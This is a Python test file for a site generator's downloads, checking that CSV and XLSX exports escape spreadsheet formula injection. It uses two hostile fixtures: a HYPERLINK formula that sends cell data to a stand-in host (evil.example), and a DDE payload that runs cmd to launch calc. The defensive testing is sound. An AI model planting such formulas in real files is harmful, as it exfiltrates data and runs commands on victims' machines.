"""Downloads are safe to open: no cell of data becomes a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date
from pathlib import Path

from factories import pk_yml, tulis, tulis_data_minimal
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from capkin.achievement.terminal_table import sel_csv
from capkin.site import PilihanPdf, bangun
from capkin.site.downloads import _sel_xlsx, sel_tulis

SERANGAN = '=HYPERLINK("https://evil.example/?d="&C3,"Klik")'
AWAL_RUMUS = ("=", "+", "-", "@", "\t", "\r")


def test_a_formula_in_an_indicator_is_text_in_the_csv_and_the_xlsx(tmp_path: Path) -> None:
    tulis_data_minimal(tmp_path)
    pk = pk_yml().replace("uraian: Indikator ik1", f"uraian: '{SERANGAN}'")
    pk = pk.replace("uraian: Indikator ik2", "uraian: '@SUM(1+1)*cmd|'' /C calc''!A0'")
    tulis(tmp_path, "data/2025/perjanjian-kinerja.yml", pk)
    hasil = bangun(tmp_path, pdf=PilihanPdf.TIDAK, tanggal=date(2025, 7, 20))
    teks = (hasil.out / "unduh/capaian-2025-TW1.csv").read_text("utf-8-sig")
    baris = {b[0]: b for b in csv.reader(io.StringIO(teks))}
    assert baris["ik1"][2] == "'" + SERANGAN
    assert baris["ik2"][2] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    xlsx = hasil.out / "unduh/capaian-2025-TW1.xlsx"
    with zipfile.ZipFile(xlsx) as z:
        lembar = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert lembar and not any(b"<f>" in z.read(n) for n in lembar)
    ws = load_workbook(xlsx).active
    assert ws is not None
    nilai = {r[0].value: r for r in ws.iter_rows(min_row=2)}
    assert nilai["ik1"][2].value == SERANGAN and nilai["ik1"][2].data_type == "s"
    # the JSON for machines keeps the exact text
    api = json.loads((hasil.out / "api/2025/TW1.json").read_text("utf-8"))
    assert [i["uraian"] for i in api["indikator"] if i["id"] == "ik1"] == [SERANGAN]


@given(st.text())
def test_sel_csv_never_starts_a_formula_and_loses_nothing(teks: str) -> None:
    sel = sel_csv(teks)
    angka = (
        teks.lstrip("-").replace(".", "", 1).isascii()
        and teks.lstrip("-").replace(".", "", 1).isdigit()
    )
    if sel.startswith(AWAL_RUMUS):
        assert sel == teks and angka  # only a plain number such as -12.5 may start with '-'
    assert sel == teks or sel == "'" + teks
    # a CSV round trip keeps the cell
    keluar = io.StringIO()
    csv.writer(keluar).writerow([sel])
    assert next(csv.reader(io.StringIO(keluar.getvalue()), strict=True)) == [sel] or "\r" in sel


@given(st.text(min_size=1), st.sampled_from(["uraian", "capaian"]))
def test_xlsx_text_cells_are_strings_never_formulas(teks: str, kolom: str) -> None:
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("uji")
    sel = sel_tulis(ws, _sel_xlsx(kolom, teks))
    bersih = teks.translate({c: None for c in range(32) if c not in (9, 10, 13)})
    assert sel.data_type in ("s", "n")
    if sel.data_type == "n":
        assert sel.value is None if bersih == "" else kolom == "capaian"
    else:
        assert sel.value == bersih
